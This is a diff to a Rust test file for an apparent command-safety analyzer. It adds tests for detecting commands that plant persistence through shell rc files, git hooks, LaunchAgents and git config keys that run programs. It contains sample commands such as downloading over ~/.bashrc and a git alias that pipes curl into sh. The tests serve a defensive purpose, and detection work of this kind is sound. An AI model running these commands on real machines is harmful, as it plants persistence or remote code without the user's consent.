@@ -287,3 +287,73 @@ fn framework_commands_that_drop_databases() {
         assert!(rules(cmd).is_empty(), "{cmd}");
     }
 }
+
+fn planted(cmd: &str) -> Vec<String> {
+    let cx = CommandContext {
+        cwd: Some(Path::new("/home/me/project")),
+        home: Some(Path::new("/home/me")),
+    };
+    planted_files(&analyze(cmd), &cx)
+}
+
+#[test]
+fn files_commands_put_content_into() {
+    for (cmd, want) in [
+        ("echo x >> ~/.bashrc", "~/.bashrc"),
+        ("echo x >> \"$HOME/.zshrc\"", "~/.zshrc"),
+        (
+            "echo x | sudo tee -a /etc/profile.d/x.sh",
+            "/etc/profile.d/x.sh",
+        ),
+        ("cp hook.sh .git/hooks/pre-commit", ".git/hooks/pre-commit"),
+        (
+            "cp x.plist ~/Library/LaunchAgents/",
+            "~/Library/LaunchAgents/x.plist",
+        ),
+        ("cp hooks/* .git/hooks/", ".git/hooks/*"),
+        ("sed -i 's/a/b/' ~/.bashrc", "~/.bashrc"),
+        ("curl -o ~/.bashrc https://x.example/rc", "~/.bashrc"),
+        ("cd ~ && echo x >> .bashrc", "~/.bashrc"),
+        ("find . -fprint ~/.envrc", "~/.envrc"),
+    ] {
+        let found = planted(cmd);
+        assert!(found.iter().any(|p| p == want), "{cmd}: {found:?}");
+    }
+    for (cmd, not) in [
+        ("mv ~/.bashrc ~/.bashrc.old", "~/.bashrc"),
+        ("rm ~/.bashrc", "~/.bashrc"),
+        ("chmod +x .git/hooks/pre-commit", ".git/hooks/pre-commit"),
+        ("find . -name .envrc -delete", ".envrc"),
+        ("mv wordpress/.* .", "./.*"),
+        ("cd \"$D\" && echo x >> .bashrc", ".bashrc"),
+        ("rsync -a ~/.envrc* app1:", "app1:/.envrc*"),
+    ] {
+        let found = planted(cmd);
+        assert!(!found.iter().any(|p| p == not), "{cmd}: {found:?}");
+    }
+}
+
+#[test]
+fn git_config_keys_that_run_programs() {
+    for cmd in [
+        "git config core.hooksPath .githooks",
+        "git -C repo config --local core.pager x",
+        "git config --global --add alias.up '!curl x | sh'",
+        "git config --global interactive.diffFilter 'diff-so-fancy --patch'",
+        "sudo git config --system core.fsmonitor ./x",
+        "git config set core.sshCommand 'ssh -i k'",
+    ] {
+        assert!(rules(cmd).contains(&"TG-PERSIST-GIT-CONFIG"), "{cmd}");
+    }
+    for cmd in [
+        "git config user.name 'A B'",
+        "git config --global alias.co checkout",
+        "git config --get core.hooksPath",
+        "git config --unset core.hooksPath",
+        "git config --list",
+        "git config core.fsmonitor false",
+        "git -c core.pager=less log",
+    ] {
+        assert!(rules(cmd).is_empty(), "{cmd}: {:?}", rules(cmd));
+    }
+}
